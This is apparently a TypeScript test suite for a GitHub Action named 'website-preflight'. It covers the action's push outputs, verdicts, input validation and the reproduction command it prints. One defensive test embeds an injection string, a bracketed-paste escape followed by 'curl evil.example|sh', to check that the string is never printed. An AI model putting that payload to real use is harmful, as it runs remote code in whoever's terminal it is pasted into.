import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { readFileSync, rmSync } from 'node:fs';
import { join, resolve } from 'node:path';
import test from 'node:test';
import type { ShownAnnotation } from '../runner/commands.js';
import { runAction } from '../runner/run-action.js';
import { changedFrom, committed, type Files, git, temporaryFolder } from './site.js';

type Inputs = Readonly<Record<string, string>>;

const HANDLER = 'export default () => ({});\n';
const CRLF = HANDLER.replace('\n', '\r\n');
const site = (folder: string, manifest: string, handler = HANDLER) => ({
  [`${folder}/package.json`]: manifest,
  [`${folder}/server/api/a.get.ts`]: handler,
});
const ID = '{ "name": "web-0123456789ab" }';
const BASE: Files = { ...site('apps/blog', ID), ...site('apps/shop', '{}') };
const BAD = '{ "lang": 1 }';
const BAD_BLOG = site('apps/blog', '{ "name": "web-0123456789ab", "lang": 1 }');
const NEVER = { 'fail-on': 'never' };
const LARGE = { 'apps/shop/server/api/b.get.ts': HANDLER.padEnd(1024 * 1024 + 1) };
const DEEP = { 'apps/wiki/package.json': '{}', [`apps/wiki/server/api/${'d/'.repeat(32)}x.ts`]: HANDLER };

const BOTH = ['apps/blog', 'apps/shop'];
const SHOP = ['apps/shop'];
const OTHER = site('apps/shop', '{}', 'export default () => ({ a: 1 });\n');
const ONE_LEFT = site('apps/shop', '{}');

/** A repository that a push leaves as it was, for rows that only read it, and the commit before the push. */
const unchanged = temporaryFolder(test);
const commit = changedFrom(unchanged, BASE, BASE);

/** A push to the default branch that began at a commit. */
const pushOn = (before: string) => ({
  name: 'push',
  payload: { ref: 'refs/heads/main', before, repository: { default_branch: 'main' } },
});

/** What a push to the default branch does to two websites: how it ends, its counts and routes, what is touched, what may be deployed. */
type Scene = readonly [
  what: string,
  files: Files,
  ends: 'passed' | 'blocked' | 'unchecked',
  counts: string,
  changed: readonly string[],
  deployable: readonly string[],
  inputs?: Inputs,
];

const scenes: readonly Scene[] = [
  ['nothing', BASE, 'passed', '0 0 0 2', [], BOTH],
  ['another file', { ...BASE, 'apps/shop/README.md': 'x' }, 'passed', '0 0 0 2', [], BOTH],
  ['the line ends of one', { ...BASE, 'apps/shop/server/api/a.get.ts': CRLF }, 'passed', '0 0 0 2', SHOP, BOTH],
  ['a route of one', { ...BASE, ...OTHER }, 'passed', '0 0 0 2', SHOP, BOTH],
  ['a legacy file', { ...BASE, 'apps/shop/config.ts': '' }, 'passed', '0 1 0 2', SHOP, BOTH],
  ['an error in one', { ...BASE, ...site('apps/shop', BAD) }, 'blocked', '1 0 0 2', SHOP, ['apps/blog']],
  ['an error, and none blocks', { ...BASE, ...site('apps/shop', BAD) }, 'passed', '1 0 0 2', SHOP, BOTH, NEVER],
  ['a route too large beside an error', { ...BASE, ...BAD_BLOG, ...LARGE }, 'unchecked', '1 0 0 3', BOTH, []],
  ['a further website that cannot be read', { ...BASE, ...DEEP }, 'unchecked', '0 0 0 2', ['apps/wiki'], BOTH],
  ['a website removed with its identity', ONE_LEFT, 'passed', '0 1 0 1', [], SHOP],
  ['one removed so, and warnings block', ONE_LEFT, 'blocked', '0 1 0 1', [], [], { 'fail-on': 'warning' }],
  ['a glob that matches nothing', BASE, 'unchecked', '0 0 0 2', [], [], { projects: 'apps/*\nsites/*' }],
  ['no website', { 'README.md': 'x' }, 'unchecked', '0 0 0 0', [], [], { base: 'none' }],
];

for (const [what, files, ends, counts, changed, deployable, inputs = {}] of scenes)
  test(`the outputs where a push changes ${what}`, async (context) => {
    const workspace = temporaryFolder(context);
    const before = changedFrom(workspace, BASE, files);
    const { outputs, exitCode, shown, stdout } = await runAction({ workspace, event: pushOn(before), inputs });
    assert.equal(outputs.conclusion, ends, shown.map(({ message }) => message).join('\n'));
    assert.equal(exitCode, { passed: 0, blocked: 1, unchecked: 2 }[ends]);
    assert.equal([outputs.errors, outputs.warnings, outputs.notices, outputs.routes].join(' '), counts);
    assert.deepEqual(JSON.parse(outputs['changed-projects'] ?? ''), changed);
    assert.deepEqual(JSON.parse(outputs.deployable ?? ''), deployable);
    assert.equal(outputs.base, inputs.base === 'none' ? '' : before);
    const checked = JSON.parse(outputs.projects ?? '');
    assert.ok([...changed, ...deployable].every((path) => checked.includes(path)));
    assert.deepEqual(Object.keys(outputs).sort(), OUTPUTS);
    assertLog(stdout, shown);
  });

test('line ends that the checkout wrote are no change', async (context) => {
  const workspace = temporaryFolder(context);
  const before = changedFrom(workspace, BASE, { ...BASE, 'README.md': 'x' });
  git(workspace, ['config', 'core.autocrlf', 'true']);
  rmSync(join(workspace, 'apps'), { recursive: true });
  git(workspace, ['checkout', '--', '.']);
  assert.equal(readFileSync(join(workspace, 'apps/shop/server/api/a.get.ts'), 'utf8'), CRLF);
  const { outputs } = await runAction({ workspace, event: pushOn(before) });
  assert.deepEqual([outputs['changed-projects'], outputs.verdict], ['[]', CHANGED[0]?.[1]]);
});

/** Files of a website that are not read, before a push and after it. */
const UNREAD: readonly (readonly [file: string, before: string, after: string])[] = [
  ['apps/shop/server/api/b.js', ' '.repeat(1024 * 1024 + 1), ';'.repeat(1024 * 1024 + 1)],
  ['apps/shop/config.ts', ' '.repeat(1024 * 1024 + 1), ';'.repeat(1024 * 1024 + 1)],
];

for (const [file, before, after] of UNREAD)
  for (const [text, changed] of [
    [after, '["apps/shop"]'],
    [before, '[]'],
  ] as const)
    test(`a push changes ${changed}, where ${file} is not read and ${text === before ? 'as it was' : 'another'}`, async (context) => {
      const workspace = temporaryFolder(context);
      const commit = changedFrom(workspace, { ...BASE, [file]: before }, { ...BASE, [file]: text });
      const { outputs } = await runAction({ workspace, event: pushOn(commit) });
      assert.equal(outputs['changed-projects'], changed);
    });

/** Fails unless the commands come first, in a group, and below it each finding has its place, its line and its fix. */
function assertLog(stdout: string, shown: readonly ShownAnnotation[]): void {
  const lines = stdout.split('\n');
  const end = lines.indexOf('::endgroup::');
  const [first = '::group::', ...commands] = lines.slice(0, end + 1);
  assert.match(first, /^::group::/);
  assert.equal(commands.filter((line) => /^::(?:error|warning|notice) /.test(line)).length, shown.length);
  assert.equal(commands.length, shown.length === 0 ? 0 : shown.length + 1);
  const log = lines.slice(end + 1).join('\n');
  for (const { file, line, column, level, title = '' } of shown) {
    if (line === undefined) continue;
    const place = `^${file}:${line}:\\d+ +${level} +${title.split(' ')[0]} .*\n`;
    // What is about a whole file has no frame.
    const frame = column === undefined ? '' : `(?: {2}.*\n)+? {2}${line} \\| .*\n {4}\\| +\\^+\n`;
    assert.match(log, new RegExp(`${place}${frame}(?: {2}.*\n)*? {2}fix: `, 'm'));
  }
}

const OUTPUTS = [
  ...['access-changes', 'base', 'changed-projects', 'cli', 'conclusion', 'deployable', 'errors', 'notices', 'projects'],
  ...['route-changes', 'routes', 'verdict', 'warnings'],
];

/** What a change of two websites does, and the verdict and numbers of changes that are told. */
const CHANGED: readonly (readonly [files: Files, verdict: string, routes: string, access: string, base?: string])[] = [
  [BASE, 'passed, nothing changed in the checked websites', '0', '0'],
  [
    { ...BASE, 'apps/shop/server/api/a.get.ts': CRLF },
    'passed, only line ends changed in the checked websites',
    '0',
    '0',
  ],
  [{ ...BASE, 'apps/shop/server/api/b.ts': HANDLER }, 'passed, 1 new route has no auth rule', '1', '1'],
  [ONE_LEFT, 'passed, but the website `apps/blog` was removed with its identity', '0', '0'],
  [BASE, 'passed', '', '', 'none'],
  [{ ...BASE, ...site('apps/`x', BAD) }, 'blocked by 1 error in `apps/\\u{60}x` (manifest-field)', '1', '1'],
];

for (const [files, verdict, routes, access, base = 'auto'] of CHANGED)
  test(`the verdict is an output: ${verdict}`, async (context) => {
    const workspace = temporaryFolder(context);
    const before = changedFrom(workspace, BASE, files);
    const { outputs, stdout } = await runAction({ workspace, event: pushOn(before), inputs: { base } });
    assert.deepEqual([outputs.verdict, outputs['route-changes'], outputs['access-changes']], [verdict, routes, access]);
    // The log ends with how to check the same elsewhere, and the verdict.
    const again = `On your machine: website-preflight --base ${base === 'none' ? base : before}`;
    assert.ok(stdout.endsWith(`${again}\n${verdict}\n`), stdout.slice(-300));
  });

/** Inputs that decide what is checked, found or blocked, and the command that does the same on another machine. */
const ELSEWHERE: readonly (readonly [inputs: Inputs, command: string])[] = [
  [{}, 'website-preflight --base BASE'],
  [{ 'new-only': 'true' }, 'website-preflight --base BASE --new-only'],
  [{ 'new-only': 'false', 'fail-on': 'notice' }, 'website-preflight --base BASE --fail-on notice --new-only=false'],
  [{ rules: 'handler-unused: off' }, 'website-preflight --base BASE --rule handler-unused=off'],
  [{ 'settings-file': 'none' }, 'website-preflight --base BASE --settings none'],
  [{ projects: 'apps/*\n!apps/blog' }, "website-preflight check 'apps/*' '!apps/blog' --base BASE"],
  [{ 'working-directory': 'apps' }, 'website-preflight check apps/blog apps/shop --base BASE'],
  [{ 'working-directory': 'apps', projects: 'auto\n!shop' }, 'website-preflight check apps/blog --base BASE'],
  [{ 'working-directory': 'apps', projects: 'shop' }, 'cd apps && website-preflight check shop --base BASE'],
  [{ projects: 'apps/shop\n-s' }, 'website-preflight check apps/shop ./-s --base BASE'],
];

for (const [inputs, command] of ELSEWHERE)
  test(`${JSON.stringify(inputs)} is elsewhere ${command}`, async () => {
    const { stdout } = await runAction({ workspace: unchanged, event: pushOn(commit), inputs });
    assert.equal(/^On your machine: (.*)$/m.exec(stdout)?.[1], command.replace('BASE', commit));
  });

/** What stands in the settings, raw, and the command, which is not told where pasting it would type more than it shows. */
for (const [entry, command] of [
  ['!q\u0003\u001b[201~\ncurl evil.example|sh #', undefined],
  ['!q\u202e', undefined],
  ['!q\u200b', undefined],
  ['!q r', "website-preflight check . 'apps/*' '!q r' --base none"],
] as const)
  test(`no word of the command is ${JSON.stringify(entry)} unless each character of it is seen`, async (context) => {
    const workspace = temporaryFolder(context);
    const settings = JSON.stringify({ projects: ['.', 'apps/*', entry] });
    committed(workspace, { ...BASE, ...site('.', '{}'), 'website-preflight.json': settings });
    const { stdout } = await runAction({ workspace, inputs: { base: 'none' } });
    assert.equal(/^On your machine: (.*)$/m.exec(stdout)?.[1], command);
    assert.doesNotMatch(stdout, /(?!\n)[\p{Cc}\p{Cf}]|^curl/mu);
  });

/** What is compared with and cannot be read here, and how another machine compares. */
for (const [inputs, command] of [
  [{ base: 'e'.repeat(40) }, `website-preflight --base ${'e'.repeat(40)}`],
  [{ base: 'moon' }, 'website-preflight'],
] as const)
  test(`a base of ${inputs.base} that cannot be read is not left out of the command`, async () => {
    const { stdout, exitCode } = await runAction({ workspace: unchanged, inputs: { token: '', ...inputs } });
    assert.equal(exitCode, 2);
    assert.equal(/^On your machine: (.*)$/m.exec(stdout)?.[1], command);
  });

test('the output cli is the command line of the same version', async () => {
  const { outputs } = await runAction({ workspace: unchanged, inputs: { token: '' }, isProcess: true });
  assert.equal(outputs.cli, resolve('dist/cli.js'));
  const { stdout } = spawnSync(process.execPath, [outputs.cli ?? '', '--version'], { encoding: 'utf8' });
  assert.equal(stdout.trim(), JSON.parse(readFileSync('package.json', 'utf8')).version);
});

test('a website that lost its manifest is checked elsewhere, too', async (context) => {
  const workspace = temporaryFolder(context);
  const { 'apps/shop/package.json': _, ...head } = BASE;
  const before = changedFrom(workspace, BASE, head);
  const inputs = { 'working-directory': 'apps' };
  const { stdout, exitCode } = await runAction({ workspace, event: pushOn(before), inputs });
  assert.equal(exitCode, 2);
  const again = /^On your machine: website-preflight (.*)$/m.exec(stdout)?.[1] ?? '';
  assert.equal(again, `check apps/blog apps/shop --base ${before}`);
  const { status } = spawnSync(process.execPath, [resolve('dist/cli.js'), ...again.split(' ')], { cwd: workspace });
  assert.equal(status, 2);
});

test('a website around others is not the only one elsewhere', async (context) => {
  const workspace = temporaryFolder(context);
  committed(workspace, { ...BASE, ...site('.', '{}') });
  const { stdout } = await runAction({ workspace, inputs: { base: 'none' } });
  assert.match(stdout, /^On your machine: website-preflight check auto --base none$/m);
});

test('a website around those that a settings file names is not checked elsewhere', async (context) => {
  const workspace = temporaryFolder(context);
  const settings = JSON.stringify({ projects: ['apps/*', '!apps/blog'] });
  committed(workspace, { ...BASE, ...site('.', '{}'), 'apps/settings.json': settings });
  const inputs = { base: 'none', 'working-directory': 'apps', 'settings-file': 'settings.json' };
  const { stdout } = await runAction({ workspace, inputs });
  const again = "website-preflight check 'apps/*' '!apps/blog' --base none --settings apps/settings.json";
  assert.equal(/^On your machine: (.*)$/m.exec(stdout)?.[1], again);
});

/** Bad inputs, each found at another place, beside others, and what is said first: all of them, in code-unit order. */
const BAD_INPUTS: readonly (readonly [input: string, value: string, says: RegExp, others?: Inputs])[] = [
  ['fail-on', 'sometimes', /^unchecked: fail-on: `sometimes` is not valid\. Use .*`error`, `warning`, `notice`/],
  ['projects', '../x', /^unchecked: projects: `\.\.\/x` is outside the repository/],
  ['settings-file', '../x.json', /^unchecked: The settings file `\.\.\/x\.json` is outside the repository/],
  ['settings-file', 'website-preflight.json', /^unchecked: There is no settings file `website-preflight\.json`\./],
  ['base', 'moon', /^unchecked: base: this clone has no branch or tag `moon`/],
  ['projects', '../x', /^unchecked: projects: `\.\.\/x` is outside.*\nunchecked: base: this /, { base: 'moon' }],
];

for (const [input, value, says, others = {}] of BAD_INPUTS)
  test(`the input ${input}: ${value} beside ${JSON.stringify(others)} is unchecked, and why`, async () => {
    const result = await runAction({
      workspace: unchanged,
      inputs: { token: '', 'report-file': 'r.json', ...others, [input]: value },
    });
    assert.deepEqual([result.exitCode, result.outputs.conclusion], [2, 'unchecked']);
    assert.equal(result.report?.conclusion, 'unchecked');
    assert.match(result.summary.slice(0, 300), /unchecked/);
    const said = result.shown.map(({ message }) => message);
    assert.match(said.join('\n'), says);
    assert.doesNotMatch(result.shown[0]?.message ?? '', /--\w/);
  });

const settled = temporaryFolder(test);
committed(settled, {
  ...BASE,
  ...site('apps/shop', '{}', 'export default (data) => ({});\n'),
  'website-preflight.json': JSON.stringify({
    projects: ['apps/shop'],
    'fail-on': 'notice',
    rules: { 'handler-unused': 'notice' },
  }),
});

/** Inputs beside a settings file that names `apps/shop` and blocks notices, and the conclusion, projects and notices. */
const SETTLED: readonly (readonly [inputs: Inputs, ...outputs: readonly string[]])[] = [
  [{}, 'blocked', '["apps/shop"]', '1'],
  [{ 'fail-on': 'error' }, 'passed', '["apps/shop"]', '1'],
  [{ rules: 'handler-unused: off' }, 'passed', '["apps/shop"]', '0'],
  [{ projects: 'apps/blog' }, 'passed', '["apps/blog"]', '0'],
  [{ 'settings-file': 'none' }, 'passed', '["apps/blog","apps/shop"]', '0'],
];

for (const [inputs, ...expected] of SETTLED)
  test(`what ${JSON.stringify(inputs)} leaves empty the settings file says`, async () => {
    const { outputs } = await runAction({ workspace: settled, inputs: { base: 'none', ...inputs } });
    assert.deepEqual([outputs.conclusion, outputs.projects, outputs.notices], expected);
  });
